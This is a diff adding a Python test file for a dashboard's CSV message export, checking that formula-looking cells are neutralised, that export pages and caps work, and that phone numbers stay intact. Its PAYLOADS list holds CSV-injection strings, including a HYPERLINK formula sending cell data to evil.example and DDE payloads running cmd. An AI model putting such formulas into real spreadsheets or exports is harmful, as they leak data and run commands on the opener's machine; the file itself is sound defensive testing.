@@ -1,0 +1,66 @@
+"""CSV export: every matching message, page by page, with formula-looking cells neutralised for spreadsheets."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from fleet_dashboard.services import export, messaging, templates
+
+PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _parse(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(db, make_org):
+    org = make_org()
+    templates.create(session=db, org_id=org.id, name="raw", message_template="{{note}}")
+    for payload in PAYLOADS:
+        # Through a template variable, as an API caller would supply it.
+        messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", template_name="raw",
+                                 variables={"note": payload})
+    failed, _ = messaging.create_message(session=db, org_id=org.id, recipient="+201001234568", text="plain")
+    failed.error = "=2+5"
+    db.add(failed)
+    db.commit()
+
+    data, rows = export.messages_csv(session=db, org_id=org.id)
+    parsed = _parse(data)
+    assert rows == len(parsed) == len(PAYLOADS) + 1
+    bodies = {row["message_body"] for row in parsed}
+    for payload in PAYLOADS:
+        assert "'" + payload in bodies, payload
+    for row in parsed:
+        for name, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == row["recipient_phone"], (name, cell)
+    assert {row["error"] for row in parsed} == {"", "'=2+5"}
+    # A phone number is a plain number, not a formula: kept as the user typed it.
+    assert {row["recipient_phone"] for row in parsed} == {"+201001234567", "+201001234568"}
+    assert parsed[0]["created_at"].endswith("+00:00")
+
+
+def test_export_pages_through_filters_and_stops_at_the_cap(db, make_org):
+    org, other = make_org(), make_org("Other")
+    for i in range(7):
+        messaging.create_message(session=db, org_id=org.id, recipient="+201001234567", text=f"m{i}")
+    messaging.create_message(session=db, org_id=other.id, recipient="+201001234567", text="not ours")
+    db.commit()
+    chunks = list(export.MessagesCsv(session=db, org_id=org.id, page_rows=3))
+    assert len(chunks) == 1 + 3, "a header, then one chunk per page"
+    assert {r["message_body"] for r in _parse("".join(chunks))} == {f"m{i}" for i in range(7)}
+
+    capped = export.MessagesCsv(session=db, org_id=org.id, max_rows=5, page_rows=3)
+    assert len(_parse("".join(capped))) == capped.rows == 5
+    data, rows = export.messages_csv(session=db, org_id=org.id, filters={"search": "m6"})
+    assert rows == 1 and _parse(data)[0]["message_body"] == "m6"
+
+
+def test_safe_cell_values():
+    assert export.safe_cell(None) == ""
+    assert export.safe_cell("-12.5") == "-12.5"
+    assert export.safe_cell("+201001234567") == "+201001234567"
+    assert export.safe_cell("+20 100 123") == "'+20 100 123"
+    assert export.safe_cell("مرحبا =1+1") == "مرحبا =1+1"
